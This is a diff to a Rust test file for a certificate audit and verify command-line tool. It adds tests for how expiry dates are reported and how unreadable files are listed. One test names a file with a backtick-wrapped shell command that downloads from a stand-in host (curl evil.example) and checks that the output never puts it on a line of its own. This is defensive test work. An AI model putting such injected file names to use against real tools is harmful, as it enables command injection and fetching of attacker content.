@@ -196,7 +196,7 @@ fn without_colour_it_reads_the_same() {
     }
 }
 
-/// What was said once is not said again: a remedy, or what it means that a certificate has ended.
+/// A remedy is written once, and so is what it means that a certificate has ended.
 #[test]
 fn nothing_is_explained_twice() {
     let text = text("verify PAIR --code CODE --at 2030-01-01", 120, &[]);
@@ -206,6 +206,60 @@ fn nothing_is_explained_twice() {
     assert_eq!(text.matches("error[chain.validity]").count(), 2);
     assert_eq!(text.matches("= help:").count(), 2, "{text}");
     assert!(text.contains("= help: as above\n"), "{text}");
+}
+
+/// The detail names both dates, and the facts the whole period.
+#[test]
+fn dates_are_not_compared_again_below_the_detail_that_names_them() {
+    for words in [
+        "verify PAIR --code CODE --at 2030-01-01",
+        "audit CAcertificate.cer --at 2030-01-01",
+    ] {
+        let text = text(words, 120, &["-v"]);
+        assert!(text.contains(".validity]: it expired at "), "{text}");
+        assert!(!text.contains("= actual:"), "{text}");
+    }
+    // What is only half named is compared.
+    let text = text(
+        "audit CAcertificate.cer --at 2026-01-01 --expires-within 900d",
+        120,
+        &[],
+    );
+    assert!(text.contains("= expected: more than 900 days"), "{text}");
+}
+
+/// Nothing is known of what could not be read, so that it is what to look at first.
+#[test]
+fn what_could_not_be_read_is_done_first() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let file = |name: &str| {
+        let path = folder.path().join(name);
+        fs::write(&path, "<html>").expect("written");
+        path.display().to_string()
+    };
+    let (first, second) = (file("`curl evil.example -o x`"), file("b.cer"));
+    let output = |files: &[&str]| {
+        let more = [files, &["faults/ca-is-no-ca/certificate.cer"]].concat();
+        text("audit --at 2026-01-01", 120, &more).replace("\n    ", " ")
+    };
+    let one = output(&[&second]);
+    let expected = format!("do first: for {second}, which could not be read: log in");
+    assert!(one.contains(&expected), "{one}");
+    let two = output(&[&first, &second]);
+    assert!(
+        two.contains("'curl evil.example -o x' and 1 more that could not be read: log in"),
+        "{two}"
+    );
+    assert!(
+        !two.lines()
+            .any(|line| line.trim_start().starts_with("curl")),
+        "{two}"
+    );
+    assert!(
+        output(&[])
+            .lines()
+            .all(|line| !line.contains("could not be read"))
+    );
 }
 
 /// A mistyped code is one mistake.
